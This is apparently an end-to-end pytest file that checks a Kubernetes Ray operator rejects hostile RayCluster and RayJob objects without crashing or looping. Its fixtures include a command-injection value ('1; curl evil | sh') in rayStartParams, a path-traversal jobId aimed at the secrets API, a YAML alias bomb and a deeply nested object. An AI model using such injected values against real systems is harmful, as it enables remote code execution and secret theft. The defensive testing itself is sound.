"""Hostile objects beside a valid one, through the real apiserver: the operator stays up (also when it
starts with them already there), builds the valid RayCluster, says on each hostile object's status
and in an Event what is wrong, and does not keep rewriting them."""

from __future__ import annotations

import copy
import json
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.hostile import ALIAS_BOMB, nested

from e2e.conformance.cases import simulated_raycluster_spec
from e2e.conftest import HostOperator, Kubectl, wait_for

CONTAINER = {
    "name": "ray",
    "image": "rayproject/ray:2.60.0",
    "resources": {"limits": {"cpu": "1", "memory": "1Gi"}},
}
SPEC = {
    "headGroupSpec": {"rayStartParams": {}, "template": {"spec": {"containers": [CONTAINER]}}},
    "workerGroupSpecs": [
        {
            "groupName": "small",
            "replicas": 1,
            "minReplicas": 0,
            "maxReplicas": 2,
            "rayStartParams": {},
            "template": {"spec": {"containers": [CONTAINER]}},
        }
    ],
}


def raycluster(name: str, change: Any = None) -> dict[str, Any]:
    spec = simulated_raycluster_spec(SPEC)
    if change is not None:
        change(spec)
    return {"apiVersion": "ray.io/v1", "kind": "RayCluster", "metadata": {"name": name}, "spec": spec}


def head(spec: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = spec["headGroupSpec"]["template"]["spec"]["containers"][0]
    return container


# name -> (how it is hostile, what its status must name)
HOSTILE_CLUSTERS = {
    # 2,000 levels (the apiserver takes up to 10,000): Python's json alone stops at 1,000.
    "deep": (lambda s: head(s).update(extra=nested(2000)), "nested more than 100 objects and arrays deep"),
    "huge": (
        lambda s: s["workerGroupSpecs"][0].update(replicas=2**31 - 1, maxReplicas=2**31 - 1),
        "asks for more than 10000 Pods",
    ),
    "shell": (
        lambda s: s["headGroupSpec"].update(rayStartParams={"num-cpus": "1; curl evil | sh"}),
        "spec.headGroupSpec.rayStartParams.num-cpus",
    ),
    "badcpu": (
        lambda s: head(s)["resources"]["limits"].update(cpu="abc"),
        "spec.headGroupSpec.template.spec.containers[0].resources.limits.cpu",
    ),
    "nullitem": (
        lambda s: head(s).update(ports=[None]),
        "spec.headGroupSpec.template.spec.containers[0].ports[0]",
    ),
}


def rayjob(name: str, **spec: Any) -> dict[str, Any]:
    body = {"entrypoint": "python -c 'print(1)'", "rayClusterSpec": simulated_raycluster_spec(SPEC), **spec}
    return {"apiVersion": "ray.io/v1", "kind": "RayJob", "metadata": {"name": name}, "spec": body}


HOSTILE_JOBS = {
    "bomb": (rayjob("bomb", runtimeEnvYAML=ALIAS_BOMB), "document contains excessive aliasing"),
    "pathid": (rayjob("pathid", jobId="../../api/v1/secrets"), "spec.jobId"),
}


@pytest.fixture(autouse=True)
def deep_json() -> Iterator[None]:
    """This test writes and reads back what Python's json stops at by default (1,000 levels)."""
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(10_000)
    yield
    sys.setrecursionlimit(limit)


def create(kubectl: Kubectl, namespace: str, body: dict[str, Any]) -> None:
    # `create`, not `apply`: no last-applied annotation copying a 2,000-level object once more.
    kubectl("create", "-n", namespace, "-f", "-", input=json.dumps(body))


def said(kubectl: Kubectl, namespace: str, kind: str, name: str, words: str) -> bool:
    status = kubectl.json("get", kind, name, "-n", namespace).get("status") or {}
    text = json.dumps(status)
    if words not in text:
        return False
    events = kubectl.json("get", "events", "-n", namespace)["items"]
    return any(
        (e.get("regarding") or e.get("involvedObject") or {}).get("name") == name
        and e.get("type") == "Warning"
        and words in (e.get("note") or e.get("message") or "")
        for e in events
    )


def versions(kubectl: Kubectl, namespace: str) -> dict[str, str]:
    items = kubectl.json("get", "rayclusters,rayjobs", "-n", namespace)["items"]
    return {f"{i['kind']}/{i['metadata']['name']}": i["metadata"]["resourceVersion"] for i in items}


def ready(kubectl: Kubectl, namespace: str, name: str) -> bool:
    return (kubectl.json("get", "raycluster", name, "-n", namespace).get("status") or {}).get(
        "state"
    ) == "ready"


def test_hostile_objects_are_refused_on_their_status_and_never_stop_the_operator(
    kubectl: Kubectl, namespace: str, operator: Path, host_operator: HostOperator
) -> None:
    for name, (change, _) in HOSTILE_CLUSTERS.items():
        create(kubectl, namespace, raycluster(name, change))
    for body, _ in HOSTILE_JOBS.values():
        create(kubectl, namespace, copy.deepcopy(body))
    create(kubectl, namespace, raycluster("fine"))
    wait_for(lambda: ready(kubectl, namespace, "fine"), 120, "the valid RayCluster to be ready", interval=2)
    expected = [("raycluster", name, words) for name, (_, words) in HOSTILE_CLUSTERS.items()]
    expected += [("rayjob", name, words) for name, (_, words) in HOSTILE_JOBS.items()]

    def unsaid() -> list[tuple[str, str, str]]:
        return [item for item in expected if not said(kubectl, namespace, *item)]

    wait_for(lambda: not unsaid(), 60, "each hostile object's status and Event to say what is wrong")
    assert host_operator.process is not None
    assert host_operator.process.poll() is None, host_operator.log.read_text()[-3000:]
    # Said once: nothing keeps rewriting them (no hot loop on what cannot be fixed by retrying).
    before = versions(kubectl, namespace)
    time.sleep(8)
    after = versions(kubectl, namespace)
    assert {k: v for k, v in after.items() if before.get(k) != v and "fine" not in k} == {}
    pods = kubectl("get", "pods", "-n", namespace, "-o", "name").split()
    assert all("fine" in pod for pod in pods), pods  # no Pod for any hostile object
    # A start with them all there: the first listing holds the 2,000-level object.
    host_operator.stop()
    host_operator.start()
    create(kubectl, namespace, raycluster("after-restart"))
    wait_for(
        lambda: ready(kubectl, namespace, "after-restart"),
        120,
        "a new RayCluster after the restart",
        interval=2,
    )
    assert host_operator.process.poll() is None, host_operator.log.read_text()[-3000:]
